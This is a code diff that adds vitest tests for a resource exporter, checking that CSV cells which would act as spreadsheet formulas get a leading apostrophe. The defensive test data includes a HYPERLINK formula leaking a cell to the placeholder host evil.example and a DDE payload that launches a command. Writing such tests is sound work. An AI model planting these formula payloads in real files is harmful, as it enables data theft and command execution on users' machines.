@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
 import { publicForm } from "../../public-form.js";
 import { type LoadedResource, stateOf } from "../../resources/store.js";
@@ -44,5 +45,27 @@ describe("export lines", () => {
   it.each(cases.map((doc) => [doc.name, doc]))("CSV: %s has publicForm's metadata as JSON text", (_, doc) => {
     const metadata = JSON.stringify(publicForm({ ...stateOf(doc) }, "resource")["metadata"]);
     expect(csvResource(doc)).toContain(metadata.includes('"') ? `"${metadata.replaceAll('"', '""')}"` : metadata);
+  });
+});
+
+// OWASP's CSV injection guidance: a cell a spreadsheet would run as a formula starts with a `'` in CSV; JSONL is exact.
+const FORMULAS = ['=HYPERLINK("http://evil.example/?"&B2,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tcmd", "\rcmd", "＝full-width"];
+
+describe("export lines: formulas", () => {
+  it.each(FORMULAS.map((name) => [JSON.stringify(name), name]))("CSV: the name %s is written with a leading ' and read back as that text", (_, name) => {
+    const doc = resource(name, [["k", "=1+1"]]);
+    const [record] = parse(csvResource(doc), { relax_quotes: false }) as string[][];
+    expect(record![1]).toBe(`'${name}`);
+    // The metadata cell is JSON text, beginning with `{`: kept as it is.
+    expect(record![4]).toBe('{"k":"=1+1"}');
+    expect(JSON.parse(jsonResource(doc))["name"]).toBe(name);
+  });
+
+  it("CSV: cells that only contain such characters, or hold a lone line break, are kept as they are (quoted where needed)", () => {
+    for (const name of ["a=b", "x-1", "mail@example", "line\nbreak", "carriage\rreturn"]) {
+      const [record] = parse(csvResource(resource(name, [])), { relax_quotes: false }) as string[][];
+      expect(record).toHaveLength(5);
+      expect(record![1]).toBe(name);
+    }
   });
 });
